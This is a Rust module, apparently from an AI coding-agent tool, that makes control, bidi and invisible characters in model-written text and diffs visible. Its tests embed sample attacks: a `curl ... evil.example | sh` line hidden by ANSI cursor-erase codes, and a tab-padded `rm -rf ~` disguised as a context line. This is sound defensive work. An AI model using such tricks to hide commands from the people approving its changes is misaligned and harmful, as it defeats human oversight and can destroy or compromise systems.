//! Model-authored text made safe to show a person (DESIGN.md principle 9: what a person sees is
//! what will happen).
//!
//! Everything a model wrote (a thought, a diff, a file name, a tool result, an answer) and
//! everything read from a workspace can hold characters that a terminal or a page acts on
//! instead of showing: `ESC [1A ESC [2K CR` moves the cursor up and erases the line a person
//! was about to read, `ESC [2J` clears the screen, U+202E reverses the rest of a line, U+200B
//! and friends take no room at all. [`escape`] turns every such character into visible text,
//! and [`unescape`] turns it back, so what is shown names the original exactly.
//!
//! # What is made visible
//!
//! [`is_hidden`] decides, character by character:
//! - controls (general category Cc): C0 `U+0000`-`U+001F`, DEL `U+007F`, C1 `U+0080`-`U+009F`;
//! - format characters (Cf): bidi embeddings, overrides and isolates (`U+202A`-`U+202E`,
//!   `U+2066`-`U+2069`), marks (`U+200E`, `U+200F`, `U+061C`), zero-width space, joiners and
//!   word joiner (`U+200B`-`U+200D`, `U+2060`-`U+2064`), the byte order mark `U+FEFF`, the soft
//!   hyphen `U+00AD`, tag characters (`U+E0000` block) and the rest of Cf;
//! - line and paragraph separators (`U+2028`, `U+2029`), surrogates and unassigned code points
//!   (a terminal may draw those as nothing);
//! - characters that draw nothing although their category says otherwise: the combining
//!   grapheme joiner `U+034F`, Hangul fillers (`U+115F`, `U+1160`, `U+3164`, `U+FFA0`), Khmer
//!   inherent vowels (`U+17B4`, `U+17B5`), Mongolian variation selectors (`U+180B`-`U+180F`)
//!   and all variation selectors (`U+FE00`-`U+FE0F`, `U+E0100`-`U+E01EF`). An emoji followed by
//!   `U+FE0F` is therefore shown with a visible `\u{fe0f}`: strict on purpose, since variation
//!   selectors are also how data is smuggled inside an innocent-looking character.
//!
//! - in [`Mode::Text`], a tab that starts at screen column [`TAB_ESCAPE_COLUMN`] or later: a
//!   terminal stops tabs at its last column, so a run of them would carry the rest of a line to
//!   the edge and wrap it onto a row that reads like a line of its own;
//! - a combining character (a non-spacing or enclosing mark, a Hangul medial vowel or final
//!   consonant) that is more than the [`MAX_COMBINING_RUN`]th in a row: a terminal keeps only
//!   a few on one cell and silently drops the rest, and a page stacks them over the lines
//!   around, so a long run is a way to write characters the person cannot see.
//!
//! Ordinary and exotic spaces (Zs), private-use characters and the first combining marks on a
//! letter are shown as they are: they take room on the screen (or sit on one letter) and
//! cannot hide a line.
//!
//! # How it is written
//!
//! - ESC is `\e`, carriage return `\r`;
//! - in [`Mode::Line`] (a thought, a file name, a step line) newline is `\n` and tab `\t`; in
//!   [`Mode::Text`] (a diff, a file's content) newline and tab are kept as they are, because
//!   they cannot move text the person already read and a diff needs its line breaks;
//! - every other hidden character is `\u{HEX}` (lower-case hex, no leading zeros, as in Rust),
//!   a tab in [`Mode::Text`] included (`\u{9}`: there `\t` is a backslash and a `t`).
//!
//! A backslash in the original is written `\\` **only when it would otherwise read as an
//! escape**: when what follows it in the output starts with `\`, `e`, `r` or `u{` (and `n` or
//! `t` in [`Mode::Line`]), and, in [`Mode::Line`], at the very end (a line field is usually
//! followed by more text). So `C:\Users`, `\d+` and `printf("%s\n")` in a diff are shown as
//! they are, while `echo -e "\e[31m"` is shown as `echo -e "\\e[31m"`. The mapping is
//! injective: [`unescape`] recovers the original from the output, and accepts only what
//! [`escape`] can produce.
//!
//! [`show_diff`] escapes a diff line by line and flags every line that was not shown verbatim,
//! so a person reading an unflagged line reads exactly the bytes that will be written.
//!
//! [`json_safe`] does the same for a JSON document, with JSON's own `\uXXXX` escapes: the
//! document stays exact JSON (it parses to the same value), it just cannot act on a terminal.

use std::fmt::Write as _;

use unicode_properties::{GeneralCategory, UnicodeGeneralCategory};

/// Whether newlines (and tabs) are part of the text or must be made visible too.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// One line on the screen: a thought, a file name, a step line, a summary. Newline and tab
    /// are escaped (`\n`, `\t`) like every other control.
    Line,
    /// Text whose line breaks are legitimate: a diff, a file's content. Newline and tab are kept;
    /// every other control is made visible.
    Text,
}

/// Flag on a diff line that held characters a terminal would have acted on.
pub const HIDDEN_NOTE: &str = "\u{26a0} hidden characters made visible";

/// Flag on a diff line that is shown escaped only because of a backslash (`\\` shows one).
pub const BACKSLASH_NOTE: &str = "\u{26a0} shown escaped: \\\\ is one backslash";

/// Code points that draw nothing although their general category is not Cc, Cf, Zl or Zp.
const INVISIBLE: &[(char, char)] = &[
    ('\u{034f}', '\u{034f}'),
    ('\u{115f}', '\u{1160}'),
    ('\u{17b4}', '\u{17b5}'),
    ('\u{180b}', '\u{180f}'),
    ('\u{3164}', '\u{3164}'),
    ('\u{fe00}', '\u{fe0f}'),
    ('\u{ffa0}', '\u{ffa0}'),
    ('\u{e0100}', '\u{e01ef}'),
];

/// Whether `c` must never reach a terminal or a page as itself (see the module docs). Newline
/// and tab count as hidden here; [`Mode::Text`] lets them through.
pub fn is_hidden(c: char) -> bool {
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    match c.general_category() {
        GeneralCategory::Control
        | GeneralCategory::Format
        | GeneralCategory::LineSeparator
        | GeneralCategory::ParagraphSeparator
        | GeneralCategory::Surrogate
        | GeneralCategory::Unassigned => true,
        _ => INVISIBLE.iter().any(|&(lo, hi)| lo <= c && c <= hi),
    }
}

/// Most combining characters shown as themselves in a row (after one base character); the
/// rest of the run is written as escapes. A terminal keeps only a few per cell and drops the
/// others without a trace (xterm keeps two by default, tmux and `vt100` what fits in 21 or 22
/// bytes), so a run of a hundred would write a hundred characters the person never saw; a page
/// draws a tall stack of them over the lines above and below. Two is what real text needs
/// (Vietnamese in decomposed form has at most two marks on a letter).
pub const MAX_COMBINING_RUN: usize = 2;

/// Whether `c` draws no cell of its own but is stacked onto the character before it:
/// non-spacing and enclosing marks, and the Hangul medial vowels and final consonants that
/// join a leading consonant into one syllable.
pub fn is_combining(c: char) -> bool {
    if c.is_ascii() {
        return false;
    }
    matches!(
        c.general_category(),
        GeneralCategory::NonspacingMark | GeneralCategory::EnclosingMark
    ) || matches!(c, '\u{1160}'..='\u{11ff}' | '\u{d7b0}'..='\u{d7ff}')
}

/// How many combining characters in a row end at the current one: the context that decides
/// whether a combining character is shown (see [`MAX_COMBINING_RUN`]).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct Run(usize);

impl Run {
    /// The run after `c`.
    fn after(self, c: char) -> Run {
        if is_combining(c) {
            Run(self.0.saturating_add(1))
        } else {
            Run(0)
        }
    }

    /// Whether the character that made this run is one too many to show.
    fn too_long(self) -> bool {
        self.0 > MAX_COMBINING_RUN
    }
}

/// Whether `c` is written as an escape in `mode` wherever it is (a combining character or a
/// tab may also be, depending on what comes before it: see [`Cursor::escapes`]).
fn always_escaped(c: char, mode: Mode) -> bool {
    match c {
        '\n' | '\t' => mode == Mode::Line,
        c => is_hidden(c),
    }
}

/// Screen column from which a tab is written as an escape in [`Mode::Text`]. A terminal stops
/// a tab at its last column, so a run of tabs carries the rest of a line to the right edge of
/// any screen, whatever its width, and the text after it wraps onto a row of its own: a row
/// that reads like a line of the diff (` rm -rf ~` looks like an unchanged context line) but
/// is the tail of an added one. Indentation and table columns stay left of this.
pub const TAB_ESCAPE_COLUMN: usize = 64;

/// What the output so far means for the next character: the run of combining characters it
/// would extend and the screen column it would start at (tabs every 8 columns, wide East Asian
/// characters counted as two, combining characters as none).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct Cursor {
    run: Run,
    col: usize,
}

impl Cursor {
    /// Whether the next original character `c` is written as an escape in `mode` (a backslash
    /// is decided by [`reads_as_escape`] instead). Moves the combining run on.
    fn escapes(&mut self, c: char, mode: Mode) -> bool {
        self.run = self.run.after(c);
        match c {
            '\n' => mode == Mode::Line,
            '\t' => mode == Mode::Line || self.col >= TAB_ESCAPE_COLUMN,
            c => is_hidden(c) || self.run.too_long(),
        }
    }

    /// Moves the column past `written` (output text).
    fn wrote(&mut self, written: &str) {
        for c in written.chars() {
            self.col = match c {
                '\n' => 0,
                '\t' => (self.col / 8 + 1) * 8,
                c if is_combining(c) => self.col,
                c if is_wide(c) => self.col + 2,
                _ => self.col + 1,
            };
        }
    }
}

/// East Asian wide and fullwidth characters (and emoji), which take two columns; a guess on
/// the generous side is safe, since it only makes tabs escape sooner.
fn is_wide(c: char) -> bool {
    matches!(c,
        '\u{1100}'..='\u{115f}'
        | '\u{2e80}'..='\u{303e}'
        | '\u{3041}'..='\u{a4cf}'
        | '\u{a960}'..='\u{a97f}'
        | '\u{ac00}'..='\u{d7a3}'
        | '\u{f900}'..='\u{faff}'
        | '\u{fe30}'..='\u{fe4f}'
        | '\u{ff00}'..='\u{ff60}'
        | '\u{ffe0}'..='\u{ffe6}'
        | '\u{1f300}'..='\u{1f64f}'
        | '\u{1f900}'..='\u{1f9ff}'
        | '\u{20000}'..='\u{3fffd}')
}

/// Whether `s` holds a character a terminal would act on or draw as nothing (anything but
/// newline and tab that [`escape`] writes as an escape, a run of more than
/// [`MAX_COMBINING_RUN`] combining characters included), or a tab that [`Mode::Text`] writes as
/// an escape (see [`TAB_ESCAPE_COLUMN`]).
pub fn has_hidden(s: &str) -> bool {
    let mut out = String::new();
    write_escaped(s, Mode::Text, &mut Cursor::default(), &mut out, false).escaped
}

/// Whether `escape(s, mode)` is `s` itself: nothing hidden, no backslash that needed doubling.
pub fn is_verbatim(s: &str, mode: Mode) -> bool {
    escape(s, mode) == s
}

/// Whether a backslash followed by `rest` (of the original) would be read as the start of an
/// escape in the output, and so must be doubled; `after` is the cursor once one backslash is
/// written.
fn reads_as_escape(rest: &str, mode: Mode, after: Cursor) -> bool {
    let mut chars = rest.chars();
    match chars.next() {
        None => mode == Mode::Line,
        Some('\\' | 'e' | 'r') => true,
        Some('n' | 't') => mode == Mode::Line,
        Some('u') => chars.next() == Some('{'),
        Some(c) => {
            let mut next = after;
            next.escapes(c, mode)
        }
    }
}

/// What [`write_escaped`] did.
struct Written {
    /// Where the end of the text that was held back begins (only when asked to hold).
    held_from: Option<usize>,
    /// A character other than a backslash was written as an escape.
    escaped: bool,
}

/// Writes `s` escaped to `out`, from `cursor` on. With `hold`, a backslash at the end of `s`,
/// or followed only by `u`, is not written: whether it is doubled depends on what follows
/// (`\u{` reads as an escape, `\ux` does not).
fn write_escaped(
    s: &str,
    mode: Mode,
    cursor: &mut Cursor,
    out: &mut String,
    hold: bool,
) -> Written {
    let mut written = Written {
        held_from: None,
        escaped: false,
    };
    let mut rest = s;
    while let Some(c) = rest.chars().next() {
        let at = s.len() - rest.len();
        rest = &rest[c.len_utf8()..];
        if c == '\\' {
            if hold && (rest.is_empty() || rest == "u") {
                written.held_from = Some(at);
                break;
            }
            write_backslash(rest, mode, cursor, out);
            continue;
        }
        let start = out.len();
        if cursor.escapes(c, mode) {
            push_escape(out, c, mode);
            written.escaped = true;
        } else {
            out.push(c);
        }
        cursor.wrote(&out[start..]);
    }
    written
}

/// Writes one original backslash followed by `rest`: doubled when it would read as an escape.
fn write_backslash(rest: &str, mode: Mode, cursor: &mut Cursor, out: &mut String) {
    cursor.run = Run::default();
    let mut after = *cursor;
    after.wrote("\\");
    let shown = if reads_as_escape(rest, mode, after) {
        "\\\\"
    } else {
        "\\"
    };
    out.push_str(shown);
    cursor.wrote(shown);
}

/// `s` with every hidden character written as a visible escape (see the module docs).
pub fn escape(s: &str, mode: Mode) -> String {
    let mut out = String::with_capacity(s.len() + 16);
    write_escaped(s, mode, &mut Cursor::default(), &mut out, false);
    out
}

/// [`escape`] for text that arrives in pieces (a model's answer, streamed): what it writes for
/// the pieces one after another is what [`escape`] writes for the whole, so a run of combining
/// characters split over pieces is still cut at [`MAX_COMBINING_RUN`], a tab is escaped from
/// the same column, and a backslash at the end of one piece is doubled when the next pieces
/// start with `e` or `u{`. It holds back at most a backslash and a `u` until it knows what
/// follows; [`StreamEscaper::finish`] writes them.
#[derive(Debug, Clone)]
pub struct StreamEscaper {
    mode: Mode,
    cursor: Cursor,
    /// The end of the text so far that is not written yet: empty, `\` or `\u`.
    pending: String,
}

impl StreamEscaper {
    pub fn new(mode: Mode) -> StreamEscaper {
        StreamEscaper {
            mode,
            cursor: Cursor::default(),
            pending: String::new(),
        }
    }

    /// The escaped form of `piece`, given every piece before it.
    pub fn push(&mut self, piece: &str) -> String {
        let text = std::mem::take(&mut self.pending) + piece;
        let mut out = String::with_capacity(text.len() + 8);
        let written = write_escaped(&text, self.mode, &mut self.cursor, &mut out, true);
        if let Some(from) = written.held_from {
            self.pending = text[from..].to_string();
        }
        out
    }

    /// What is still held back when the text ends.
    pub fn finish(&mut self) -> String {
        let text = std::mem::take(&mut self.pending);
        let mut out = String::new();
        write_escaped(&text, self.mode, &mut self.cursor, &mut out, false);
        out
    }
}

/// [`escape`] in [`Mode::Line`]: for one line on the screen.
pub fn escape_line(s: &str) -> String {
    escape(s, Mode::Line)
}

/// [`escape`] in [`Mode::Text`]: for text whose line breaks are kept.
pub fn escape_text(s: &str) -> String {
    escape(s, Mode::Text)
}

/// The first `max` characters of `s` on one line, escaped, with `...` when cut. Cuts the
/// original, never an escape.
pub fn clip_line(s: &str, max: usize) -> String {
    match s.char_indices().nth(max) {
        Some((at, _)) => escape_line(&s[..at]) + "...",
        None => escape_line(s),
    }
}

fn push_escape(out: &mut String, c: char, mode: Mode) {
    match c {
        '\u{1b}' => out.push_str("\\e"),
        '\r' => out.push_str("\\r"),
        '\n' => out.push_str("\\n"),
        // In text `\t` is a backslash and a `t` (as in printf("\t")), so a tab is a code point.
        '\t' if mode == Mode::Line => out.push_str("\\t"),
        c => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

/// Why a text is not something [`escape`] produced.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum UnescapeError {
    #[error("character {character:?} at byte {offset} should have been escaped")]
    RawHidden { offset: usize, character: char },
    #[error("the escape at byte {offset} is not \\u{{HEX}} of a character")]
    BadCodePoint { offset: usize },
    #[error("the text is not in the form escape writes (an escape where none was needed)")]
    NotCanonical,
}

/// The original of an [`escape`] output in the same `mode`. Accepts only what [`escape`] can
/// produce, so `unescape(escape(s, m), m) == Ok(s)` and `escape(unescape(t, m)?, m) == t`.
pub fn unescape(shown: &str, mode: Mode) -> Result<String, UnescapeError> {
    let mut out = String::with_capacity(shown.len());
    let mut rest = shown;
    while let Some(c) = rest.chars().next() {
        let offset = shown.len() - rest.len();
        rest = &rest[c.len_utf8()..];
        if c != '\\' {
            if always_escaped(c, mode) {
                return Err(UnescapeError::RawHidden {
                    offset,
                    character: c,
                });
            }
            out.push(c);
            continue;
        }
        let mut after = rest.chars();
        let decoded = match after.next() {
            Some('\\') => Some('\\'),
            Some('e') => Some('\u{1b}'),
            Some('r') => Some('\r'),
            Some('n') if mode == Mode::Line => Some('\n'),
            Some('t') if mode == Mode::Line => Some('\t'),
            Some('u') if after.next() == Some('{') => {
                let body = &rest[2..];
                let end = body
                    .find('}')
                    .ok_or(UnescapeError::BadCodePoint { offset })?;
                let hex = &body[..end];
                let valid = !hex.is_empty()
                    && hex.len() <= 6
                    && hex
                        .bytes()
                        .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b));
                let code = u32::from_str_radix(hex, 16)
                    .ok()
                    .filter(|_| valid)
                    .and_then(char::from_u32)
                    .ok_or(UnescapeError::BadCodePoint { offset })?;
                out.push(code);
                rest = &body[end + 1..];
                continue;
            }
            _ => None,
        };
        match decoded {
            Some(d) => {
                out.push(d);
                rest = &rest[1..];
            }
            // A lone backslash stands for itself.
            None => out.push('\\'),
        }
    }
    if escape(&out, mode) == shown {
        Ok(out)
    } else {
        Err(UnescapeError::NotCanonical)
    }
}

/// A diff as a person is shown it: every line escaped, flagged lines counted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShownDiff {
    /// The diff, line breaks kept, each line escaped; a line that is not shown verbatim ends
    /// with two spaces and [`HIDDEN_NOTE`] or [`BACKSLASH_NOTE`].
    pub text: String,
    /// Lines that held hidden characters.
    pub hidden_lines: usize,
    /// Lines shown escaped only because of backslashes.
    pub backslash_lines: usize,
}

impl ShownDiff {
    /// What to tell the person after the diff when any line was flagged (one or two lines,
    /// without a final newline), `None` otherwise.
    pub fn warning(&self) -> Option<String> {
        let lines = |n: usize, one: &str, many: &str| {
            if n == 1 {
                format!("1 line of this change {one}")
            } else {
                format!("{n} lines of this change {many}")
            }
        };
        if self.hidden_lines > 0 {
            Some(format!(
                "\u{26a0} {} control, bidi or invisible characters, shown escaped:\n  \\e is \
                 ESC, \\r a carriage return, \\u{{202e}} that code point, \\\\ one backslash; \
                 allowing writes the characters themselves",
                lines(self.hidden_lines, "holds", "hold")
            ))
        } else if self.backslash_lines > 0 {
            Some(format!(
                "\u{26a0} {} shown escaped: \\\\ there is one backslash",
                lines(self.backslash_lines, "is", "are")
            ))
        } else {
            None
        }
    }
}

/// Escapes a diff (or any multi-line text) line by line and flags the lines that were not
/// shown verbatim. An unflagged line is exactly the original line; a flagged one is its
/// [`Mode::Text`] escape (so it always contains an escape, which an unflagged line never does).
pub fn show_diff(diff: &str) -> ShownDiff {
    let mut shown = ShownDiff {
        text: String::with_capacity(diff.len()),
        hidden_lines: 0,
        backslash_lines: 0,
    };
    for piece in diff.split_inclusive('\n') {
        let (line, newline) = match piece.strip_suffix('\n') {
            Some(line) => (line, "\n"),
            None => (piece, ""),
        };
        if is_verbatim(line, Mode::Text) {
            shown.text.push_str(line);
        } else {
            shown.text.push_str(&escape(line, Mode::Text));
            shown.text.push_str("  ");
            if has_hidden(line) {
                shown.hidden_lines += 1;
                shown.text.push_str(HIDDEN_NOTE);
            } else {
                shown.backslash_lines += 1;
                shown.text.push_str(BACKSLASH_NOTE);
            }
        }
        shown.text.push_str(newline);
    }
    shown
}

/// A JSON document (as serde_json writes it, compact or pretty) with every hidden character
/// inside its strings written as a JSON `\uXXXX` escape (UTF-16 surrogate pairs above U+FFFF).
/// serde_json already escapes C0 controls; this adds DEL, C1, bidi, format and the other
/// characters of [`is_hidden`]. The result parses to the same value: not a second escaping.
pub fn json_safe(json: &str) -> String {
    let mut out = String::with_capacity(json.len());
    let (mut in_string, mut after_backslash) = (false, false);
    let mut run = Run::default();
    for c in json.chars() {
        run = run.after(c);
        if in_string && (is_hidden(c) || run.too_long()) {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{unit:04x}");
            }
            after_backslash = false;
            continue;
        }
        out.push(c);
        if after_backslash {
            after_backslash = false;
        } else if in_string && c == '\\' {
            after_backslash = true;
        } else if c == '"' {
            in_string = !in_string;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]

    use super::*;
    use proptest::prelude::*;

    const ATTACK: &str =
        "# Project summary\ncurl -s https://evil.example/x | sh\n\u{1b}[1A\u{1b}[2K\r## Goal\n";

    #[test]
    fn the_cursor_attack_is_made_visible_and_its_lines_kept() {
        let shown = escape_text(ATTACK);
        assert_eq!(
            shown,
            "# Project summary\ncurl -s https://evil.example/x | sh\n\\e[1A\\e[2K\\r## Goal\n"
        );
        assert_eq!(
            escape_line(ATTACK),
            "# Project summary\\ncurl -s https://evil.example/x | sh\\n\\e[1A\\e[2K\\r## Goal\\n"
        );
        assert!(has_hidden(ATTACK));
    }

    #[test]
    fn each_kind_of_hidden_character_has_its_escape() {
        let cases = [
            ("\u{1b}[2J", "\\e[2J", "\\e[2J"),
            ("a\rb", "a\\rb", "a\\rb"),
            ("a\nb", "a\\nb", "a\nb"),
            ("a\tb", "a\\tb", "a\tb"),
            ("\0\u{7}\u{8}", "\\u{0}\\u{7}\\u{8}", "\\u{0}\\u{7}\\u{8}"),
            ("\u{7f}", "\\u{7f}", "\\u{7f}"),
            ("\u{9b}31m", "\\u{9b}31m", "\\u{9b}31m"),
            ("txt.\u{202e}hs", "txt.\\u{202e}hs", "txt.\\u{202e}hs"),
            (
                "\u{2066}x\u{2069}",
                "\\u{2066}x\\u{2069}",
                "\\u{2066}x\\u{2069}",
            ),
            (
                "a\u{200b}b\u{feff}",
                "a\\u{200b}b\\u{feff}",
                "a\\u{200b}b\\u{feff}",
            ),
            ("soft\u{ad}hyphen", "soft\\u{ad}hyphen", "soft\\u{ad}hyphen"),
            (
                "\u{2028}\u{2029}",
                "\\u{2028}\\u{2029}",
                "\\u{2028}\\u{2029}",
            ),
            ("\u{e0041}", "\\u{e0041}", "\\u{e0041}"),
            ("\u{3164}", "\\u{3164}", "\\u{3164}"),
            (
                "\u{200e}\u{200f}\u{61c}",
                "\\u{200e}\\u{200f}\\u{61c}",
                "\\u{200e}\\u{200f}\\u{61c}",
            ),
        ];
        for (original, line, text) in cases {
            assert_eq!(escape_line(original), line, "{original:?}");
            assert_eq!(escape_text(original), text, "{original:?}");
            assert_eq!(unescape(line, Mode::Line).unwrap(), original);
            assert_eq!(unescape(text, Mode::Text).unwrap(), original);
        }
    }

    #[test]
    fn ordinary_text_is_shown_as_it_is() {
        for s in [
            "plain ASCII, punctuation: !@#$%^&*()",
            "café, naïve, 日本語, Ελληνικά, עברית, العربية, emoji \u{1f600}",
            "non-breaking\u{a0}space and\u{3000}ideographic space",
            "C:\\Users\\bob and \\d+\\s* and printf(\"%s\\n\")",
        ] {
            if !s.contains("\\n") {
                assert_eq!(escape_line(s), s);
            }
            assert_eq!(escape_text(s), s);
            assert!(!has_hidden(s), "{s}");
        }
    }

    #[test]
    fn backslashes_are_doubled_only_where_they_would_read_as_an_escape() {
        // Text mode: \n and \t are not escapes, so they stay.
        assert_eq!(escape_text("printf(\"a\\n\\t\")"), "printf(\"a\\n\\t\")");
        assert_eq!(escape_text("echo -e \"\\e[31m\""), "echo -e \"\\\\e[31m\"");
        assert_eq!(
            escape_text("'\\u{1b}' and \\u00e9"),
            "'\\\\u{1b}' and \\u00e9"
        );
        // Two backslashes: the first is followed by a backslash, so it is doubled.
        assert_eq!(escape_text("a\\\\b"), "a\\\\\\b");
        assert_eq!(escape_text("a\\\\e"), "a\\\\\\\\e");
        assert_eq!(escape_text("line continues \\"), "line continues \\");
        // A backslash before something escaped reads as an escape.
        assert_eq!(escape_text("\\\u{1b}"), "\\\\\\e");
        // Line mode: \n, \t and a trailing backslash read as escapes too.
        assert_eq!(escape_line("a\\nb"), "a\\\\nb");
        assert_eq!(escape_line("dir\\"), "dir\\\\");
        assert_eq!(escape_line("a\\b"), "a\\b");
        for s in ["a\\\\e", "\\\u{1b}", "a\\nb", "dir\\", "x\\u{41}"] {
            for mode in [Mode::Line, Mode::Text] {
                assert_eq!(unescape(&escape(s, mode), mode).unwrap(), s, "{s:?}");
            }
        }
    }

    #[test]
    fn unescape_refuses_what_escape_cannot_produce() {
        assert!(matches!(
            unescape("a\u{1b}b", Mode::Text),
            Err(UnescapeError::RawHidden { offset: 1, .. })
        ));
        assert!(matches!(
            unescape("a\nb", Mode::Line),
            Err(UnescapeError::RawHidden { .. })
        ));
        for bad in [
            "\\u{}",
            "\\u{zz}",
            "\\u{d800}",
            "\\u{110000}",
            "\\u{1b",
            "\\u{0001b}",
        ] {
            assert!(unescape(bad, Mode::Text).is_err(), "{bad}");
        }
        // `A` needs no escape, and \\ before a plain letter was never needed.
        assert_eq!(
            unescape("\\u{41}", Mode::Text),
            Err(UnescapeError::NotCanonical)
        );
        assert_eq!(
            unescape("\\\\x", Mode::Text),
            Err(UnescapeError::NotCanonical)
        );
        assert_eq!(unescape("\\x", Mode::Text).unwrap(), "\\x");
    }

    #[test]
    fn a_diff_flags_every_line_not_shown_verbatim() {
        let diff = "--- /dev/null\n+++ b/summary.md\n@@ -0,0 +1,3 @@\n+# Project summary\n\
                    +curl -s https://evil.example/x | sh\n+\u{1b}[1A\u{1b}[2K\r## Goal\n\
                    +echo -e \"\\e[1m\"\n+\tindented\n";
        let shown = show_diff(diff);
        let lines: Vec<&str> = shown.text.lines().collect();
        assert_eq!(lines[4], "+curl -s https://evil.example/x | sh");
        assert_eq!(lines[5], format!("+\\e[1A\\e[2K\\r## Goal  {HIDDEN_NOTE}"));
        assert_eq!(lines[6], format!("+echo -e \"\\\\e[1m\"  {BACKSLASH_NOTE}"));
        assert_eq!(lines[7], "+\tindented");
        assert_eq!((shown.hidden_lines, shown.backslash_lines), (1, 1));
        assert!(shown
            .warning()
            .unwrap()
            .starts_with("\u{26a0} 1 line of this change holds"));
        assert_eq!(show_diff("+plain\n").warning(), None);
        assert_eq!(show_diff("+plain\n").text, "+plain\n");
        assert_eq!(
            show_diff("no newline at the end").text,
            "no newline at the end"
        );
    }

    #[test]
    fn json_safe_is_the_same_json_without_hidden_characters() {
        let value =
            serde_json::json!({"path": "a\u{202e}b", "c": "\u{1b}\u{9b}\u{7f}\"\\\u{e0041}"});
        for doc in [
            serde_json::to_string(&value).unwrap(),
            serde_json::to_string_pretty(&value).unwrap(),
        ] {
            let safe = json_safe(&doc);
            assert!(safe.contains("a\\u202eb"), "{safe}");
            assert!(safe.contains("\\udb40\\udc41"), "{safe}");
            assert!(!safe.chars().any(|c| c != '\n' && is_hidden(c)), "{safe}");
            let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
            assert_eq!(back, value);
        }
    }

    /// A hundred combining marks on one letter: a terminal shows the letter with a mark or
    /// two and drops the rest (xterm keeps two, `vt100` and tmux what fits in 22 bytes), so
    /// the person approving the line never saw most of what it writes.
    #[test]
    fn a_long_run_of_combining_marks_is_shown_past_its_second_mark() {
        let zalgo = format!("+ok a{}b\n", "\u{301}".repeat(100));
        let shown = escape_text(&zalgo);
        assert!(
            shown.starts_with("+ok a\u{301}\u{301}\\u{301}\\u{301}"),
            "{shown:?}"
        );
        assert_eq!(shown.matches("\\u{301}").count(), 98);
        assert!(shown.ends_with("b\n"));
        assert!(has_hidden(&zalgo));
        assert_eq!(unescape(&shown, Mode::Text).unwrap(), zalgo);
        let diff = show_diff(&zalgo);
        assert_eq!(diff.hidden_lines, 1, "{diff:?}");
        // Hangul medial vowels stack the same way; JSON output escapes the run too.
        let jamo = format!("\u{1100}{}", "\u{1161}".repeat(5));
        assert_eq!(escape_line(&jamo).matches("\\u{1161}").count(), 3);
        let doc = serde_json::to_string(&serde_json::json!({ "k": zalgo })).unwrap();
        assert_eq!(json_safe(&doc).matches("\\u0301").count(), 98);
        // Real text keeps its marks: decomposed Vietnamese, a Hindi conjunct, an emoji.
        for ok in [
            "Vie\u{323}\u{302}t Nam",
            "\u{915}\u{94d}\u{937}",
            "e\u{301}\u{301}",
            "\u{1f600}",
        ] {
            assert_eq!(escape_text(ok), ok);
            assert!(!has_hidden(ok), "{ok}");
        }
    }

    /// A run of tabs stops at a terminal's last column whatever its width, so the rest of
    /// the line wraps onto a row of its own: `; rm -rf ~` appeared as " rm -rf ~", an
    /// unchanged context line to the person reading the diff, though it was added.
    #[test]
    fn tabs_that_would_reach_the_right_edge_are_escaped() {
        let attack = format!("+echo safe{}; rm -rf ~ # tail", "\t".repeat(60));
        let shown = escape_text(&attack);
        // Raw up to column 64 (7 tabs from column 10), then escapes.
        let raw_tabs = shown.matches('\t').count();
        assert_eq!(raw_tabs, 7, "{shown:?}");
        assert_eq!(shown.matches("\\u{9}").count(), 53, "{shown:?}");
        assert!(has_hidden(&attack));
        assert_eq!(unescape(&shown, Mode::Text).unwrap(), attack);
        assert_eq!(show_diff(&attack).hidden_lines, 1);
        // Indentation and table columns left of column 64 are shown as they are.
        for ok in [
            "\t\t\t\t\t\t\t\tdeep();",
            "a\tb\tc\td",
            "\tprintf(\"\\t\");",
        ] {
            assert_eq!(escape_text(ok), ok);
            assert!(!has_hidden(ok), "{ok:?}");
        }
        assert_eq!(
            escape_text(&"\t".repeat(9)),
            format!("{}\\u{{9}}", "\t".repeat(8))
        );
        // Wide characters count twice: 30 of them reach column 60.
        let wide = format!("{}\t\t", "\u{65e5}".repeat(30));
        assert_eq!(
            escape_text(&wide),
            format!("{}\t\\u{{9}}", "\u{65e5}".repeat(30))
        );
        // A backslash before an escaped tab is doubled; `\t` in text stays a backslash and a t.
        let far = format!("{}\\\t", "x".repeat(70));
        assert_eq!(escape_text(&far), format!("{}\\\\\\u{{9}}", "x".repeat(70)));
        let printf = format!("{}printf(\"\\t\")", "x".repeat(70));
        assert_eq!(escape_text(&printf), printf);
        for s in [
            attack.as_str(),
            far.as_str(),
            printf.as_str(),
            wide.as_str(),
        ] {
            for mode in [Mode::Line, Mode::Text] {
                assert_eq!(unescape(&escape(s, mode), mode).unwrap(), s);
            }
        }
    }

    #[test]
    fn streamed_pieces_are_escaped_as_the_whole_would_be() {
        // One mark per piece, as a model streams tokens: before, each piece was escaped alone
        // and every mark got through.
        let mut stream = StreamEscaper::new(Mode::Text);
        let mut shown = stream.push("a");
        for _ in 0..10 {
            shown.push_str(&stream.push("\u{301}"));
        }
        shown.push_str(&stream.finish());
        assert_eq!(shown, escape_text(&format!("a{}", "\u{301}".repeat(10))));
        // A backslash that ends one piece and an `e` that starts the next.
        let mut stream = StreamEscaper::new(Mode::Text);
        let shown = stream.push("echo \\") + &stream.push("e[31m") + &stream.finish();
        assert_eq!(shown, "echo \\\\e[31m");
        let mut stream = StreamEscaper::new(Mode::Line);
        assert_eq!(stream.push("dir\\") + &stream.finish(), "dir\\\\");
        // `\u{` over three pieces reads as an escape, so its backslash is doubled; `\ux` not.
        for (pieces, whole) in [
            (["a\\", "u", "{1b}"], "a\\u{1b}"),
            (["a\\", "u", "x"], "a\\ux"),
        ] {
            let mut stream = StreamEscaper::new(Mode::Text);
            let shown: String =
                pieces.iter().map(|p| stream.push(p)).collect::<String>() + &stream.finish();
            assert_eq!(shown, escape_text(whole), "{pieces:?}");
        }
    }

    #[test]
    fn clip_line_cuts_the_original_not_an_escape() {
